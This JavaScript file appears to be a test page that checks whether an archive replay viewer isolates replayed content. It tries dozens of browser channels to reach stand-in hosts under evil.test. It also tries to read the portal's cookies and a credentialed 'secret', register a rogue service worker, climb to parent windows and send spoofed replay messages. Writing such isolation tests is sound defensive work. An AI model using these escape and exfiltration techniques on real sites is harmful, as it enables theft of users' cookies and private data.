window.found = {};
const mine = (s) => (s.includes('what-only') ? s : undefined); // a replay shows a page itself as the top
const later = [() => document.getElementById('blank').click()];
const portal = '{portal}';
const attempt = async (name, f) => {
  try {
    const got = await f();
    if (got !== undefined) found[name] = String(got);
  } catch (e) {
    found[name] = 'no: ' + e.name + ': ' + e.message.slice(0, 60);
  }
};
// out tries all ways out with the parts of one window, each under a name that begins with a prefix.
const out = (prefix, w) => {
  const at = (name) => 'https://' + prefix + name + '.evil.test/';
  const d = w.document;
  const add = (tag, set) => { const e = d.createElement(tag); Object.assign(e, set); (d.body ?? d.documentElement).appendChild(e); return e; };
  const ways = {
    fetch: () => w.fetch(at('fetch'), { mode: 'no-cors' }),
    xhr: () => { const x = new w.XMLHttpRequest(); x.open('GET', at('xhr')); x.send(); },
    websocket: () => { new w.WebSocket(at('websocket').replace('https', 'wss')); },
    eventsource: () => { new w.EventSource(at('eventsource')); },
    beacon: () => { w.navigator.sendBeacon(at('beacon'), 'x'); },
    image: () => { new w.Image().src = at('image'); },
    script: () => { add('script', { src: at('script') }); },
    css: () => { add('link', { rel: 'stylesheet', href: at('css') }); },
    style: () => { add('style', { textContent: '@import url(' + at('style') + ')' }); },
    preconnect: () => { add('link', { rel: 'preconnect', href: at('preconnect') }); },
    dns: () => { add('link', { rel: 'dns-prefetch', href: at('dns') }); },
    attribute: () => { const l = d.createElement('link'); l.setAttribute('href', at('attribute')); l.setAttribute('rel', 'preconnect'); (d.head ?? d.documentElement).appendChild(l); },
    parsed: () => { add('div', { innerHTML: '<link rel=preconnect href=' + at('parsed') + '><img src=' + at('parsedimage') + '>' }); },
    embed: () => { add('embed', { src: at('embed') }); add('object', { data: at('object') }); },
    frame: () => { add('iframe', { src: at('frame') }); },
    blobframe: () => { add('iframe', { src: w.URL.createObjectURL(new w.Blob(['<img src=' + at('blobframe') + '>'], { type: 'text/html' })) }); },
    worker: () => { new w.Worker(w.URL.createObjectURL(new w.Blob([`fetch('${at('worker')}', { mode: 'no-cors' }); new WebSocket('${at('workersocket').replace('https', 'wss')}'); importScripts('${at('workerscript')}')`]))); },
    remoteworker: () => { new w.Worker(at('remoteworker')); },
    sharedworker: () => { new w.SharedWorker(at('sharedworker')); },
    module: () => w.eval(`import('${at('module')}')`),
    transport: () => { new w.WebTransport(at('transport')).ready.catch(() => {}); },
    open: () => { w.open(at('open')); },
    webrtc: () => {
      const c = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }, { urls: 'stun:' + new URL(at('stun')).host }] });
      c.createDataChannel('x');
      return c.createOffer().then((o) => c.setLocalDescription(o));
    },
    form: () => { const f = add('form', { method: 'post', action: at('jsform'), target: 'sink' }); f.submit(); },
    refresh: () => { w.frames.refresher?.document.write('<meta http-equiv=refresh content="0;url=' + at('refresh') + '">'); },
    ping: () => { add('a', { href: '#x', ping: at('jsping') }).click(); },
    blank: () => { add('a', { href: at('jsblank'), target: '_blank' }).click(); },
    top: () => { w.top.location = at('top'); },
    parent: () => { if (w.parent !== w) w.parent.location = at('parent'); },
  };
  const leaving = ['blank', 'top', 'parent', 'open', 'ping', 'form', 'refresh']; // in leave, for the page may be gone then
  for (const [name, f] of Object.entries(ways)) {
    const now = () => attempt(prefix + name, () => Promise.resolve(f()).then(() => undefined));
    if (leaving.includes(name)) later.push(now); else now();
  }
};
document.getElementById('ping').click();
document.getElementById('post').submit();
const empty = (how) => { how(); return window[window.length - 1]; };
out('own', window);
// A frame's window is as new: nothing that was put in the way in this one is in it.
attempt('fresh', () => out('fresh', empty(() => document.body.appendChild(document.createElement('iframe')))));
attempt('inner', () => out('inner', empty(() => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); })));
attempt('nested', () => {
  const outer = empty(() => document.body.append(document.createElement('iframe')));
  outer.document.body.innerHTML = '<iframe></iframe>';
  out('nested', outer[0]);
});
// The viewer's own windows around it are of its origin.
const bare = (() => empty(() => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); }))();
const around = (n) => bare['Func' + 'tion']('n', `const get = Object.getOwnPropertyDescriptor(globalThis, 'par' + 'ent').get; let w = get.call(globalThis); while (n--) w = get.call(w); return w`)(n);
for (const [name, get] of Object.entries({ viewer: () => around(1), frame: () => around(2) })) {
  attempt(name, () => { const w = get(); found[name + 'At'] = 'no: it is ' + w.location.pathname.slice(-8); if (w !== window) out(name, w); });
}
attempt('aroundAll', () => mine(around(3).document.title));
// What is the portal's.
attempt('cookies', () => mine(document.cookie));
attempt('topTitle', () => mine(top.document.title));
attempt('topCookies', () => mine(top.document.cookie));
attempt('freshTopTitle', () => mine(empty(() => document.body.appendChild(document.createElement('iframe'))).top.document.title));
attempt('portalFetch', () => fetch(portal + 'secret', { credentials: 'include' }).then((r) => r.text()).then(mine));
attempt('portalImage', () => { new Image().src = portal + 'secret?image'; });
attempt('freshPortalFetch', () => empty(() => document.body.appendChild(document.createElement('iframe'))).fetch(portal + 'secret', { credentials: 'include', mode: 'no-cors' }).then((r) => r.type));
attempt('serviceWorker', () => {
  const own = Object.getOwnPropertyDescriptor(Navigator.prototype, 'serviceWorker').get.call(navigator);
  return own.register('https://serviceworker.evil.test/sw.js').then(() => 'registered');
});
attempt('ownServiceWorker', () => {
  const own = empty(() => document.body.appendChild(document.createElement('iframe'))).navigator.serviceWorker;
  return own.register('/evil.js', { scope: '/' }).then(() => 'registered');
});
attempt('message', () => {
  for (let w = parent; ; w = w.parent) {
    w.postMessage({ type: 'crawlfleet-replay', url: 'https://spoof.test/', ts: 'x' }, '*');
    w.postMessage({ wb_type: 'load', url: 'https://spoof.test/', ts: '<img src=x>' }, '*');
    if (w === w.parent) break;
  }
});
setTimeout(() => { found.tried = 'yes'; }, 2000);
// Asked for, so that found has been read before the page may be gone.
window.leave = () => { setTimeout(() => { for (const leave of later) leave(); }); };
